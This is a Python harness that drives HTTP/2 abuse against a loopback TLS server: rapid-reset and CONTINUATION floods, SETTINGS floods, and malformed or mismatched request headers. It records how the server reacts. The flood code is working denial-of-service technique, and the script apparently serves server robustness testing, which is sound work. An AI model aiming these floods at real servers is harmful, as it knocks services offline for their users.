#!/usr/bin/python3
"""HTTP/2 abuse against a TLS listener that speaks h2 by ALPN, one attack per run.

    h2_abuse.py ATTACK HOST PORT CA_FILE [--connections N] [--sni NAME] [--streams N]
                [--megabytes N] [--settings N]

ATTACK is one of:

* rapid_reset: `--connections` (10) attackers each open streams (HEADERS with END_STREAM) and
  cancel each at once (RST_STREAM CANCEL), as fast as they can, `--streams` (1 000) in all;
* continuation: one HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB without
  END_HEADERS, `--megabytes` (10) of header block in all;
* settings_flood: `--settings` (10 000) SETTINGS frames, then one ordinary request on the same
  connection;
* pseudo_headers: one request per connection with invalid pseudo-headers (unknown, repeated,
  missing, after a regular field, a response's, empty) or a connection-specific field;
* authority_mismatch: one request per connection whose Host does not name what :authority does;
* content_length: one request per connection whose DATA does not add up to its content-length,
  sent with its HEADERS or a moment after them.

The floods are persistent: when the server ends a connection before the attacker has sent its
share, the attacker opens another and goes on (for at most `RUN_DEADLINE`).

Prints one JSON object: for each connection (or case), what the server did (GOAWAY with its
error code, RST_STREAM, a response, a close, or nothing), and the milliseconds from the
attacker's last frame on that connection to that reaction. Every read has a timeout and the run
ends within a few seconds whatever the server does. Paths start with `/h2-abuse/`, so that an
upstream can tell what reached it.
"""

import argparse
import json
import select
import socket
import ssl
import sys
import threading
import time

from h2.errors import ErrorCodes
from hpack import Decoder, Encoder, HPACKError, NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# How long a reaction is waited for after the last frame sent.
REACTION_WAIT = 1.5
# The longest a persistent attacker goes on opening connections.
RUN_DEADLINE = 8.0
# The most a single socket operation may block.
IO_TIMEOUT = 2.0
CANCEL = 0x8
# Between the parts of a request sent in several writes: long enough for a proxy to pass the
# request head on before the rest comes.
PAUSE = 0.2
FRAME_PAYLOAD = 16384


def code_name(code):
    try:
        return ErrorCodes(code).name
    except ValueError:
        return str(code)


def ms(seconds):
    return round(seconds * 1000.0, 1)


class Connection:
    """One TLS connection speaking h2 by hand: frames are written as given, and every frame the
    server sends is read and noted with the time it came."""

    def __init__(self, args):
        context = ssl.create_default_context(cafile=args.ca)
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection((args.host, args.port), timeout=IO_TIMEOUT)
        self.sock = context.wrap_socket(raw, server_hostname=args.sni)
        if self.sock.selected_alpn_protocol() != "h2":
            raise RuntimeError("the server did not select h2 by ALPN")
        self.sock.settimeout(IO_TIMEOUT)
        self.authority = args.sni
        self.encoder = Encoder()
        self.decoder = Decoder(max_header_list_size=1 << 20)
        self.buf = b""
        self.partial = None
        self.goaway = None
        self.closed = None
        self.resets = {}
        self.responses = {}
        self.server_settings = 0
        self.settings_acks = 0
        self.sent_bytes = 0
        self.send_error = None
        self.last_write = None
        self.sending_ended = None

    # Writing.

    def _write(self, data, attack=False):
        try:
            self.sock.sendall(data)
        except (OSError, ssl.SSLError) as e:
            if self.send_error is None:
                self.send_error = "%s: %s" % (type(e).__name__, e)
            return False
        if attack:
            self.sent_bytes += len(data)
            self.last_write = time.monotonic()
        return True

    def send(self, data):
        """Writes `data`, then reads whatever came meanwhile; False when the write failed."""
        ok = self._write(data, attack=True)
        self.pump(0)
        return ok

    def over(self):
        """Whether the server ended the connection (GOAWAY or close)."""
        return self.goaway is not None or self.closed is not None

    def start(self):
        """The preface and empty SETTINGS; waits for the server's SETTINGS."""
        self._write(PREFACE + SettingsFrame(0).serialize())
        self.wait(lambda: self.server_settings > 0, IO_TIMEOUT)

    def end_sending(self):
        self.sending_ended = self.last_write or time.monotonic()

    # Reading.

    def pump(self, timeout):
        """Reads and notes frames for up to `timeout` seconds (0: only what is there now)."""
        deadline = time.monotonic() + timeout
        while self.closed is None:
            if self.sock.pending() == 0:
                left = max(0.0, deadline - time.monotonic())
                try:
                    ready, _, _ = select.select([self.sock], [], [], left)
                except (OSError, ValueError):
                    self._close("error")
                    return
                if not ready:
                    return
            try:
                data = self.sock.recv(65536)
            except ssl.SSLWantReadError:
                continue
            except socket.timeout:
                return
            except (OSError, ssl.SSLError) as e:
                self._close("reset (%s)" % type(e).__name__)
                return
            if not data:
                self._close("end of stream")
                return
            self.buf += data
            self._frames()

    def wait(self, done, timeout):
        """Reads until `done()` holds, the connection closes or `timeout` has passed."""
        deadline = time.monotonic() + timeout
        while not done() and self.closed is None:
            left = deadline - time.monotonic()
            if left <= 0:
                return
            self.pump(min(left, 0.05))

    def _close(self, how):
        self.closed = {"how": how, "at": time.monotonic()}

    def _frames(self):
        at = 0
        while len(self.buf) - at >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[at : at + 9]))
            if len(self.buf) - at < 9 + length:
                break
            frame.parse_body(memoryview(self.buf[at + 9 : at + 9 + length]))
            at += 9 + length
            self._note(frame)
        self.buf = self.buf[at:]

    def _note(self, frame):
        now = time.monotonic()
        if isinstance(frame, SettingsFrame):
            if "ACK" in frame.flags:
                self.settings_acks += 1
            else:
                self.server_settings += 1
                self._write(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(frame, GoAwayFrame):
            if self.goaway is None:
                self.goaway = {
                    "code": code_name(frame.error_code),
                    "last_stream_id": frame.last_stream_id,
                    "debug": frame.additional_data.decode("utf-8", "replace"),
                    "at": now,
                }
        elif isinstance(frame, RstStreamFrame):
            self.resets.setdefault(
                frame.stream_id, {"code": code_name(frame.error_code), "at": now}
            )
        elif isinstance(frame, HeadersFrame):
            self.partial = (frame.stream_id, frame.data, "END_STREAM" in frame.flags)
            if "END_HEADERS" in frame.flags:
                self._response()
        elif isinstance(frame, ContinuationFrame) and self.partial:
            self.partial = (self.partial[0], self.partial[1] + frame.data, self.partial[2])
            if "END_HEADERS" in frame.flags:
                self._response()
        elif isinstance(frame, DataFrame):
            if "END_STREAM" in frame.flags and frame.stream_id in self.responses:
                self.responses[frame.stream_id]["ended"] = True
            if frame.flow_controlled_length:
                self._write(
                    WindowUpdateFrame(0, window_increment=frame.flow_controlled_length).serialize()
                )

    def _response(self):
        stream, block, ended = self.partial
        self.partial = None
        try:
            fields = dict(self.decoder.decode(block))
        except (HPACKError, ValueError) as e:
            fields = {":status": "undecodable (%s)" % e}
        self.responses.setdefault(
            stream, {"status": fields.get(":status"), "at": time.monotonic(), "ended": ended}
        )

    # Reporting.

    def reaction(self, stream=None):
        """The server's first reaction, to `stream` or to the connection: its kind, detail and
        the time it came."""
        seen = []
        if self.goaway:
            seen.append(("goaway", self.goaway["code"], self.goaway["at"]))
        if stream is not None and stream in self.resets:
            seen.append(("rst_stream", self.resets[stream]["code"], self.resets[stream]["at"]))
        if stream is None and self.resets:
            first = min(self.resets.values(), key=lambda r: r["at"])
            seen.append(("rst_stream", first["code"], first["at"]))
        if stream is not None and stream in self.responses:
            r = self.responses[stream]
            seen.append(("response", r["status"], r["at"]))
        if self.closed:
            seen.append(("close", self.closed["how"], self.closed["at"]))
        if not seen:
            return None
        return min(seen, key=lambda s: s[2])

    def report(self, stream=None):
        out = {
            "reaction": "none",
            "detail": None,
            "ms": None,
            "during_sending": False,
            "sent_bytes": self.sent_bytes,
            "send_error": self.send_error,
            "goaway": None,
            "closed": self.closed["how"] if self.closed else None,
            "resets": len(self.resets),
            "responses": {
                str(k): str(v["status"]) + (" (stream ended)" if v["ended"] else "")
                for k, v in sorted(self.responses.items())[:5]
            },
            "response_count": len(self.responses),
        }
        if self.goaway:
            out["goaway"] = {
                k: self.goaway[k] for k in ("code", "last_stream_id", "debug")
            }
        if stream is not None and stream in self.responses:
            out["stream_ended"] = self.responses[stream]["ended"]
        first = self.reaction(stream)
        end = self.sending_ended or self.last_write
        if first:
            kind, detail, at = first
            out["reaction"], out["detail"] = kind, detail
            if end is not None:
                out["during_sending"] = at < end
                out["ms"] = ms(max(0.0, at - end))
        return out

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def request_headers(conn, method, path, extra=()):
    return [
        (":method", method),
        (":scheme", "https"),
        (":authority", conn.authority),
        (":path", path),
    ] + list(extra)


def headers_frame(stream, block, end_stream=True, end_headers=True):
    flags = []
    if end_headers:
        flags.append("END_HEADERS")
    if end_stream:
        flags.append("END_STREAM")
    return HeadersFrame(stream, data=block, flags=flags).serialize()


# The attacks.


def one_connection(args, attack):
    """Runs `attack(conn)` on a connection of its own; returns the connection's report with
    what `attack` added (its "stream" key names the stream whose reaction is reported)."""
    started = time.monotonic()
    try:
        conn = Connection(args)
    except (OSError, ssl.SSLError, RuntimeError) as e:
        return {"reaction": "connect_failed", "detail": str(e), "used": 0}
    try:
        conn.start()
        extra = attack(conn) or {}
        report = conn.report(extra.pop("stream", None))
        report.update(extra)
        report["elapsed_ms"] = ms(time.monotonic() - started)
        return report
    finally:
        conn.close()


def persistent(args, attack, budget):
    """`args.connections` attackers at once, each spending `budget` (streams, bytes or frames):
    `attack(conn, left)` spends what it can of `left` on one connection and says how much in
    "used"; when the server ends that connection first, the attacker opens another, until its
    budget is spent or `RUN_DEADLINE` has passed."""
    results, lock = [], threading.Lock()
    deadline = time.monotonic() + RUN_DEADLINE

    def attacker():
        left = budget
        while left > 0 and time.monotonic() < deadline:
            report = one_connection(args, lambda conn: attack(conn, left))
            with lock:
                results.append(report)
            if report.get("used", 0) <= 0:
                return
            left -= report["used"]

    threads = [threading.Thread(target=attacker) for _ in range(args.connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=RUN_DEADLINE + 5)
    return {
        "connections": results,
        "attackers": args.connections,
        "budget": budget * args.connections,
        "used": sum(r.get("used", 0) for r in results),
    }


def send_batched(conn, count, frames_of, per_write):
    """Sends the frames `frames_of(i)` gives for each i below `count`, about `per_write` frames
    a write, until the connection is over; returns how many i were written."""
    batch, written = [], 0
    for i in range(count):
        batch.extend(frames_of(i))
        if len(batch) >= per_write or i == count - 1:
            if not conn.send(b"".join(batch)):
                break
            written = i + 1
            batch = []
            if conn.over():
                break
    return written


def rapid_reset(args):
    path = "/h2-abuse/rapid-reset"

    def attack(conn, left):
        first = conn.encoder.encode(request_headers(conn, "GET", path))
        rest = conn.encoder.encode(request_headers(conn, "GET", path))
        def frames(i):
            stream = 1 + 2 * i
            return [
                headers_frame(stream, first if i == 0 else rest),
                RstStreamFrame(stream, error_code=CANCEL).serialize(),
            ]

        written = send_batched(conn, left, frames, 100)
        conn.end_sending()
        conn.wait(conn.over, REACTION_WAIT)
        return {"used": written, "streams_sent": written}

    return persistent(args, attack, args.streams)


def continuation(args):
    def attack(conn, left):
        head = conn.encoder.encode(request_headers(conn, "GET", "/h2-abuse/continuation"))
        # A field never indexed leaves the decoder's table as it is, so its encoding can be
        # repeated as often as needed; fields run across frame boundaries, as HPACK allows.
        field = conn.encoder.encode([NeverIndexedHeaderTuple("x-filler", "a" * 4000)])
        filler = field * (FRAME_PAYLOAD // len(field) + 2)
        frames, written = 0, 0
        if conn.send(headers_frame(1, head, end_stream=True, end_headers=False)):
            written = len(head)
            while written < left and not conn.over():
                chunk, size_of_chunk = [], 0
                for _ in range(4):
                    size = min(FRAME_PAYLOAD, left - written - size_of_chunk)
                    if size <= 0:
                        break
                    offset = ((frames + len(chunk)) * FRAME_PAYLOAD) % len(field)
                    data = filler[offset : offset + size]
                    chunk.append(ContinuationFrame(1, data=data).serialize())
                    size_of_chunk += size
                if not conn.send(b"".join(chunk)):
                    break
                frames += len(chunk)
                written += size_of_chunk
        conn.end_sending()
        conn.wait(lambda: conn.over() or 1 in conn.resets, REACTION_WAIT)
        return {
            "stream": 1,
            "used": written,
            "continuation_frames": frames,
            "header_block_bytes": written,
        }

    return persistent(args, attack, args.megabytes * 1024 * 1024)


def settings_flood(args):
    def attack(conn, left):
        def frames(i):
            # Alternates the initial window size, which the server must apply to every stream.
            settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + i % 2}
            return [SettingsFrame(0, settings=settings).serialize()]

        written = send_batched(conn, left, frames, 200)
        conn.end_sending()
        # One acknowledgement for the preface's SETTINGS, one for each of the flood's.
        conn.wait(lambda: conn.over() or conn.settings_acks >= written + 1, REACTION_WAIT)
        acked = conn.settings_acks
        # Whether the connection still serves after the flood.
        after = None
        if not conn.over():
            block = conn.encoder.encode(request_headers(conn, "GET", "/h2-abuse/after-settings"))
            conn.send(headers_frame(1, block))
            conn.wait(lambda: 1 in conn.responses or 1 in conn.resets, REACTION_WAIT)
            after = conn.responses.get(1, {}).get("status")
        return {
            "used": written,
            "settings_sent": written,
            "settings_acked": acked,
            "request_after_flood": after,
        }

    return persistent(args, attack, args.settings)


def single_requests(args, group, cases):
    """Each case on a connection of its own: `build(conn)` gives the bytes of one request on
    stream 1 (to `/h2-abuse/<group>/<case>` when it has a path), or a list of parts written
    `PAUSE` apart; the reaction to stream 1 is timed from the write of its last part."""
    out = []
    for name, build in cases:
        def attack(conn, build=build):
            parts = build(conn)
            for i, part in enumerate(parts if isinstance(parts, list) else [parts]):
                if i:
                    time.sleep(PAUSE)
                if not conn.send(part) or conn.over():
                    break
            conn.end_sending()
            conn.wait(
                lambda: conn.goaway or conn.closed or 1 in conn.resets or 1 in conn.responses,
                REACTION_WAIT,
            )
            # A response may be followed by a reset or a GOAWAY; note them too.
            conn.pump(0.05)
            return {"stream": 1}

        report = one_connection(args, attack)
        report["case"] = name
        report["path"] = "/h2-abuse/%s/%s" % (group, name)
        out.append(report)
    return {"cases": out}


def pseudo_headers(args):
    def block(fields):
        return lambda conn: headers_frame(1, conn.encoder.encode(fields(conn)))

    def path(name):
        return "/h2-abuse/pseudo/" + name

    def base(conn, name):
        return request_headers(conn, "GET", path(name))

    cases = [
        ("unknown_pseudo", block(lambda c: base(c, "unknown_pseudo") + [(":foo", "bar")])),
        (
            "pseudo_after_regular",
            block(
                lambda c: [
                    (":method", "GET"),
                    (":scheme", "https"),
                    ("x-regular", "1"),
                    (":authority", c.authority),
                    (":path", path("pseudo_after_regular")),
                ]
            ),
        ),
        (
            "repeated_path",
            block(lambda c: base(c, "repeated_path") + [(":path", path("repeated_path_2"))]),
        ),
        ("repeated_method", block(lambda c: base(c, "repeated_method") + [(":method", "POST")])),
        (
            "missing_method",
            block(
                lambda c: [(k, v) for k, v in base(c, "missing_method") if k != ":method"]
            ),
        ),
        (
            "missing_scheme",
            block(
                lambda c: [(k, v) for k, v in base(c, "missing_scheme") if k != ":scheme"]
            ),
        ),
        (
            "missing_path",
            block(lambda c: [(k, v) for k, v in base(c, "missing_path") if k != ":path"]),
        ),
        (
            "empty_path",
            block(
                lambda c: [(k, v if k != ":path" else "") for k, v in base(c, "empty_path")]
            ),
        ),
        ("status_in_request", block(lambda c: base(c, "status_in_request") + [(":status", "200")])),
        (
            "connection_specific",
            block(lambda c: base(c, "connection_specific") + [("connection", "keep-alive")]),
        ),
        ("te_not_trailers", block(lambda c: base(c, "te_not_trailers") + [("te", "gzip")])),
    ]
    return single_requests(args, "pseudo", cases)


def authority_mismatch(args):
    def block(name, authority, hosts):
        def build(conn):
            fields = [
                (":method", "GET"),
                (":scheme", "https"),
                (":authority", authority),
                (":path", "/h2-abuse/authority/" + name),
            ] + [("host", h) for h in hosts]
            return headers_frame(1, conn.encoder.encode(fields))

        return name, build

    sni = args.sni
    cases = [
        block("host_differs", sni, ["other." + sni]),
        block("host_adds_port", sni, [sni + ":443"]),
        block("host_twice", sni, [sni, "other." + sni]),
        block("userinfo", "user@" + sni, [sni]),
    ]
    return single_requests(args, "authority", cases)


def content_length(args):
    def request(name, declared, chunks, pause=False):
        def build(conn):
            fields = request_headers(
                conn,
                "POST",
                "/h2-abuse/length/" + name,
                [("content-length", str(declared)), ("content-type", "text/plain")],
            )
            head = headers_frame(1, conn.encoder.encode(fields), end_stream=False)
            data = b""
            for i, size in enumerate(chunks):
                flags = ["END_STREAM"] if i == len(chunks) - 1 else []
                data += DataFrame(1, data=b"x" * size, flags=flags).serialize()
            return [head, data] if pause else head + data

        return name, build

    cases = [
        request("shorter", 10, [5]),
        request("longer", 5, [10]),
        request("longer_in_two", 5, [3, 3]),
        request("zero_with_data", 0, [1]),
        request("large_declared_small_sent", 1000, [100]),
        request("shorter_after_a_pause", 10, [5], pause=True),
        request("longer_after_a_pause", 5, [10], pause=True),
    ]
    return single_requests(args, "length", cases)


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuation": continuation,
    "settings_flood": settings_flood,
    "pseudo_headers": pseudo_headers,
    "authority_mismatch": authority_mismatch,
    "content_length": content_length,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("host", help="a loopback address")
    parser.add_argument("port", type=int)
    parser.add_argument("ca", help="the PEM file of the CA to trust")
    parser.add_argument("--connections", type=int, default=10)
    parser.add_argument("--sni", default="a.test")
    parser.add_argument("--streams", type=int, default=1000)
    parser.add_argument("--megabytes", type=int, default=10)
    parser.add_argument("--settings", type=int, default=10000)
    args = parser.parse_args()
    if not args.host.startswith("127.") and args.host not in ("::1", "localhost"):
        parser.error("only loopback addresses are attacked")
    started = time.monotonic()
    result = ATTACKS[args.attack](args)
    result["attack"] = args.attack
    result["elapsed_ms"] = ms(time.monotonic() - started)
    json.dump(result, sys.stdout)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
